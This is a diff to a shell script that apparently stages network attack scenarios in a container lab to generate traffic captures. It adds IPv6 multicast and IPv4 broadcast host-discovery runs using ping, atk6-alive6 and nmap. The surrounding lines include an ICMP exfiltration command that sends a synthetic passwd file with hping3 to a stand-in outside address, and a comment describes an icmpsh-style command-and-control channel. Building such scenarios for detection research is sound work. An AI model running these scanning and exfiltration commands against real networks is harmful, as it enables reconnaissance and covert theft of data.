@@ -36,6 +36,11 @@
 #   c2_icmpsh_like      a command channel in the manner of icmpsh (icmp_c2.py): the implant polls an
 #                       outside master every second, commands come back in echo replies, output
 #                       goes out in echo requests (about 80 s)
+#   disc6_multicast_ping  ping -6 to the all-nodes group ff02::1 on the user LAN, 3 probes
+#   disc6_alive6        thc-ipv6 atk6-alive6 on the user LAN (its default: multicast probes)
+#   disc6_nmap_mcast    nmap's targets-ipv6-multicast-echo script on the user LAN
+#   disc4_broadcast     ping -b to the user LAN's broadcast address, 3 probes, with the other
+#                       hosts answering broadcast echo (icmp_echo_ignore_broadcasts=0)
 set -uo pipefail
 sc=$1 out=$2
 here=$(cd "$(dirname "$0")" && pwd)
@@ -125,6 +130,16 @@ case $sc in
     for i in $(seq 0 29); do echo "user$i:x:$((1000 + i)):$((1000 + i)):User $i,,,:/home/user$i:/bin/bash"; done > /tmp/ih_passwd
     n=$(( ($(wc -c < /tmp/ih_passwd) + 99) / 100 ))
     x ih_atk timeout 30 hping3 -1 -q -E /tmp/ih_passwd -d 100 -c "$n" -i u500000 203.0.113.7 >/dev/null 2>&1 ;;
+  disc6_multicast_ping)
+    x ih_atk timeout 10 ping -6 -n -c 3 -i 1 -I eth0 ff02::1 >/dev/null 2>&1 ;;
+  disc6_alive6)
+    x ih_atk timeout 30 atk6-alive6 eth0 >/dev/null 2>&1 ;;
+  disc6_nmap_mcast)
+    x ih_atk timeout 60 nmap -6 -n -e eth0 -sn --script targets-ipv6-multicast-echo >/dev/null 2>&1 ;;
+  disc4_broadcast)
+    for n in ih_ws2 ih_mon ih_rtr; do x $n sysctl -qw net.ipv4.icmp_echo_ignore_broadcasts=0; done
+    x ih_atk timeout 10 ping -n -b -c 3 -i 1 10.77.0.255 >/dev/null 2>&1
+    for n in ih_ws2 ih_mon ih_rtr; do x $n sysctl -qw net.ipv4.icmp_echo_ignore_broadcasts=1; done ;;
   *) echo "unknown scenario $sc" >&2; kill "$cap"; exit 2 ;;
 esac
 sleep 2
